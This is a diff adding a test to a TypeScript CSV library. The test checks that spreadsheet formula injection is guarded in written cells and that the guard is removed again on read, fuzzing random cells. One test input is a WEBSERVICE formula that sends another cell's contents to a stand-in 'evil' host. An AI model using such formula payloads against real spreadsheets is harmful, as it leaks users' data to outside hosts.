@@ -223,6 +223,19 @@ describe('The reader of CSV', () => {
     assert.equal(withoutGuard("'t is"), "'t is")
   })
 
+  it('guards formulas wherever a spreadsheet may begin a cell, and takes the guards away again', () => {
+    const row = writeCsvRow(['x;http://evil/?q;=WEBSERVICE(B2)', '\n=1', '＝1', "'=1", 'a;b', 'x; -1', -1])
+    assert.equal(row, `"x;http://evil/?q;'=WEBSERVICE(B2)","'\n'=1",'＝1,''=1,"a;b","x; -1",-1\r\n`)
+    const chance = createChance(seed)
+    const pieces = ['=', "'", ';', '\t', '\n', 'a', '-', '＠', '"', ','] as const
+    for (let run = 0; run < 2_000; run++) {
+      const cell = Array.from({ length: chance.below(7) }, () => chance.pick(pieces)).join('')
+      const [[written = ''] = []] = parse(writeCsvRow([cell, 'x']), { relax_quotes: false }) as string[][]
+      assert.equal(withoutGuard(written), cell, JSON.stringify(cell))
+      for (const part of written.split(/[;\t\r\n]/)) assert.doesNotMatch(part, /^[=+\-@＝＋－＠]/, JSON.stringify(cell))
+    }
+  })
+
   it('never loses a byte of a file without saying so, whatever is changed in it', async () => {
     const chance = createChance(seed)
     const text = 'id,title,author\r\n1,"A ""b""",x\r\n2,"B\r\nC",y\r\n3,D,z\r\n'
